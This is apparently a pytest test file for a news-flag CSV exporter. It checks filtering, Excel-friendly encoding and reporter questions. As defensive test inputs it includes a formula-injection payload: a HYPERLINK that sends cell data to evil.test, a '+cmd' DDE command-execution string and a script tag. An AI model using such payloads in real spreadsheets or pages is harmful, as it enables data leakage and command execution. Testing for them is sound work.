"""db/export.py: the editor CSV as an editor would open it, from a real SQLite file."""

from __future__ import annotations

import csv
import io
import sqlite3
import types
from pathlib import Path

import pytest
import sqlite_utils
from db_builders import TEXT, S, annotation, extracted

from db import export, store
from db.schema import open_db

HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"click")'


@pytest.fixture
def db(tmp_path: Path) -> sqlite_utils.Database:
    db = open_db(str(tmp_path / "news.db"))
    save(db, "http://nationpress.test/news/story", "nationpress.test", "2026-11-20T08:00:00Z")
    save(db, "http://dailyledger.test/world/strike", "dailyledger.test", "2026-11-25T09:30:00Z")
    return db


def save(
    db,
    url: str,
    outlet: str,
    published: str | None,
    text: str = TEXT,
    title: str = "Strike kills 685",
    **kw,
) -> int:
    run_id = store.start_run(db, "scrape", {})
    aid = store.save_article(
        db, extracted(url, text=text, outlet=outlet, published=published, title=title), None, url
    )
    store.save_annotation(db, aid, annotation(text, **kw), run_id)
    return aid


def read_back(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def csv_bytes(rows) -> bytes:
    buf = io.BytesIO()
    export.write_csv(rows, buf)
    return buf.getvalue()


def test_export_rows_one_per_flag_in_reading_order(db):
    rows = list(export.export_rows(db, article=1))
    assert [
        (r["sentence_number"], r["flag_type"], r["label"], r["cue_or_phrase"]) for r in rows
    ] == [
        (1, "unsourced", "anonymous_source", "said"),
        (2, "unsourced", "weasel", "say"),
        (2, "framing", "loaded_language", "draconian"),
        (2, "framing", "doubt", "so-called"),
        (3, "framing", "labeling", "regime"),  # named source: no sourcing flag, but its framing
        (4, "unsourced", "vague_document", "reveal"),
        (4, "framing", "presupposition", "reveal"),
    ]
    first = rows[0]
    assert list(first) == list(export.COLUMNS)
    assert first["article_url"] == "http://nationpress.test/news/story"
    assert first["outlet"] == "nationpress.test" and first["published"] == "2026-11-20T08:00:00Z"
    assert first["sentence"] == "🚨 Officials familiar with the matter said 685 people were killed."
    assert (
        first["source"] == "Officials familiar with the matter"
        and first["entry"] == "rule.anonymous_source"
    )
    assert rows[4]["in_quote"] == "yes" and rows[2]["in_quote"] == "no"


def test_export_rows_is_streamed_article_by_article(db):
    rows = export.export_rows(db)
    assert isinstance(rows, types.GeneratorType)
    assert [r["article_id"] for r in rows] == [1] * 7 + [2] * 7


def test_export_rows_accepts_a_plain_sqlite3_connection(db, tmp_path):
    # what a Datasette output renderer gets from execute_fn
    conn = sqlite3.connect(str(tmp_path / "news.db"))
    assert len(list(export.export_rows(conn, flags=("framing",)))) == 8


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({"article": 2}, {(2, "unsourced"): 3, (2, "framing"): 4}),
        ({"outlet": "dailyledger.test"}, {(2, "unsourced"): 3, (2, "framing"): 4}),
        ({"outlet": "www.DailyLedger.test"}, {(2, "unsourced"): 3, (2, "framing"): 4}),
        ({"since": "2026-11-21"}, {(2, "unsourced"): 3, (2, "framing"): 4}),
        (
            {"since": "2026-11-20"},
            {(1, "unsourced"): 3, (1, "framing"): 4, (2, "unsourced"): 3, (2, "framing"): 4},
        ),
        ({"since": "2026-11-25T10:00:00+01:00"}, {(2, "unsourced"): 3, (2, "framing"): 4}),
        ({"since": "2026-12-01"}, {}),
        ({"flags": ("unsourced",)}, {(1, "unsourced"): 3, (2, "unsourced"): 3}),
        ({"flags": "framing"}, {(1, "framing"): 4, (2, "framing"): 4}),
        ({"outlet": "nationpress.test", "flags": ["framing"]}, {(1, "framing"): 4}),
        ({"outlet": "nowhere.test"}, {}),
    ],
)
def test_export_rows_filters(db, filters, expected):
    got: dict[tuple[int, str], int] = {}
    for r in export.export_rows(db, **filters):
        key = (r["article_id"], r["flag_type"])
        got[key] = got.get(key, 0) + 1
    assert got == expected


def test_export_rows_since_leaves_out_articles_without_a_date(db):
    save(db, "http://undated.test/a", "undated.test", None)
    assert {r["article_id"] for r in export.export_rows(db)} == {1, 2, 3}
    assert {r["article_id"] for r in export.export_rows(db, since="2000-01-01")} == {1, 2}


@pytest.mark.parametrize(
    ("filters", "message"),
    [
        ({"flags": ("quotes",)}, "quotes"),
        ({"flags": ()}, "none"),
        ({"since": "last week"}, "YYYY-MM-DD"),
    ],
)
def test_export_rows_bad_filters_say_what_to_use(db, filters, message):
    with pytest.raises(ValueError, match=message):
        list(export.export_rows(db, **filters))


def test_write_csv_is_excel_friendly_bom_crlf_and_stable_header(db, tmp_path):
    out = tmp_path / "flags.csv"
    n = export.write_csv(export.export_rows(db), out)
    data = out.read_bytes()
    assert n == 14
    assert data.startswith(
        b"\xef\xbb\xbfarticle_id,article_title,article_url,outlet,published,sentence_number,"
    )
    header = data[3:].split(b"\r\n", 1)[0].decode()
    assert header.split(",") == list(export.COLUMNS)
    assert data.count(b"\r\n") == 15 and b"\n" not in data.replace(b"\r\n", b"")
    rows = read_back(data)
    assert len(rows) == 14 and rows[0]["sentence"].startswith("🚨 Officials")


def test_write_csv_to_text_file_binary_stdout_and_chunks_agree(db, tmp_path):
    rows = list(export.export_rows(db))
    as_bytes = csv_bytes(rows)
    text_path = tmp_path / "t.csv"
    with open(text_path, "w", encoding="utf-8", newline="") as fh:
        assert export.write_csv(rows, fh) == 14
    assert text_path.read_bytes() == as_bytes
    chunks = list(export.iter_csv(iter(rows), rows_per_chunk=3))
    assert len(chunks) > 3 and "".join(chunks).encode("utf-8") == as_bytes


def test_write_csv_neutralises_cells_a_spreadsheet_would_run(db):
    payloads = [HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
    rows = [
        dict.fromkeys(export.COLUMNS, "") | {"article_id": 7, "sentence_number": -1, "reason": p}
        for p in payloads
    ]
    back = read_back(csv_bytes(rows))
    assert [r["reason"] for r in back] == ["'" + p for p in payloads]
    assert back[0]["sentence_number"] == "-1"  # a number is data, not a formula


def test_write_csv_keeps_hostile_scraped_text_literal(db):
    title = HOSTILE
    text = (
        '<script>alert("x")</script> Officials said, "the toll is 685;\nnot less." '
        "Critics say the draconian 'plan' is a disaster, 😀 truly."
    )
    sentences = [
        S(
            '<script>alert("x")</script> Officials said, "the toll is 685;\nnot less."',
            "anonymous_source",
            source="Officials",
            cue="said",
        ),
        S(
            "Critics say the draconian 'plan' is a disaster, 😀 truly.",
            "weasel",
            source="Critics",
            cue="say",
        ),
    ]
    aid = save(
        db,
        "http://evil.test/a",
        "evil.test",
        "2026-11-26T00:00:00Z",
        text=text,
        title=title,
        sentences=sentences,
        spans=[("draconian", "loaded_language", False)],
    )
    back = read_back(csv_bytes(export.export_rows(db, article=aid)))
    assert [r["sentence"] for r in back] == [
        sentences[0].text,
        sentences[1].text,
        sentences[1].text,
    ]
    assert back[0]["article_title"] == "'" + title  # formula neutralised, text otherwise as scraped
    assert back[2]["cue_or_phrase"] == "draconian"


def test_csv_keeps_accents_for_excel(db):
    text = "Le ministre a déclaré que 685 soldats sont morts à Kyiv."
    aid = save(
        db,
        "http://presse.test/a",
        "presse.test",
        "2026-11-26T00:00:00Z",
        text=text,
        title="Déjà vu à Kyiv",
        sentences=[S(text, "unattributed_claim", figures=["685"])],
        spans=[],
    )
    data = csv_bytes(export.export_rows(db, article=aid))
    assert "Déjà vu à Kyiv".encode() in data and data.startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize(
    ("row", "question"),
    [
        (
            {"flag_type": "unsourced", "label": "vague_document"},
            "Which documents? Who holds them, and can we see them?",
        ),
        (
            {"flag_type": "unsourced", "label": "anonymous_source"},
            "Who are the sources, and why are they unnamed?",
        ),
        (
            {"flag_type": "unsourced", "label": "weasel", "source": "Many analysts"},
            "Which analysts? Can we name one?",
        ),
        (
            {"flag_type": "unsourced", "label": "weasel", "source": "Critics"},
            "Which critics? Can we name one?",
        ),
        ({"flag_type": "unsourced", "label": "weasel"}, "Who exactly? Can we name one?"),
        (
            {"flag_type": "unsourced", "label": "agentless", "cue_or_phrase": "It is believed"},
            "Who believes this?",
        ),
        (
            {"flag_type": "unsourced", "label": "agentless", "cue_or_phrase": "reportedly"},
            "Who reports this?",
        ),
        (
            {"flag_type": "unsourced", "label": "agentless", "cue_or_phrase": "are expected to"},
            "Who expects this?",
        ),
        (
            {
                "flag_type": "unsourced",
                "label": "unattributed_claim",
                "sentence": "In 2024, 685 personnel were killed.",
            },
            "Who counted the 685?",
        ),
        (
            {
                "flag_type": "unsourced",
                "label": "unattributed_claim",
                "sentence": "Violence rose by 40% in 2024.",
            },
            "Where does the figure '40%' come from?",
        ),
        (
            {
                "flag_type": "unsourced",
                "label": "unattributed_claim",
                "sentence": "The army lost control in 2024.",
            },
            "What is the source for this claim?",
        ),
        (
            {
                "flag_type": "framing",
                "label": "loaded_language",
                "cue_or_phrase": "staggering",
                "in_quote": "no",
            },
            "Is 'staggering' the outlet's word or a source's? Would a neutral word do?",
        ),
        (
            {
                "flag_type": "framing",
                "label": "labeling",
                "cue_or_phrase": "regime",
                "in_quote": "yes",
            },
            "'regime' is a source's word: is it clear who said it, and is the quote needed?",
        ),
    ],
)
def test_question_for_asks_what_the_reporter_must_answer(row, question):
    assert export.question_for(row) == question


def test_question_for_counts_use_the_claims_first_figure(db):
    rows = list(export.export_rows(db, article=1, flags="unsourced"))
    save(
        db,
        "http://n.test/claim",
        "n.test",
        None,
        text="In 2024, 4,813 incidents were recorded.",
        sentences=[
            S(
                "In 2024, 4,813 incidents were recorded.",
                "unattributed_claim",
                figures=["2024", "4,813"],
            )
        ],
        spans=[],
    )
    claim_row = next(export.export_rows(db, outlet="n.test"))
    assert claim_row["question"] == "Who counted the 4,813?"  # the year is not a count
    assert [r["question"] for r in rows][:2] == [
        "Who are the sources, and why are they unnamed?",
        "Which critics? Can we name one?",
    ]
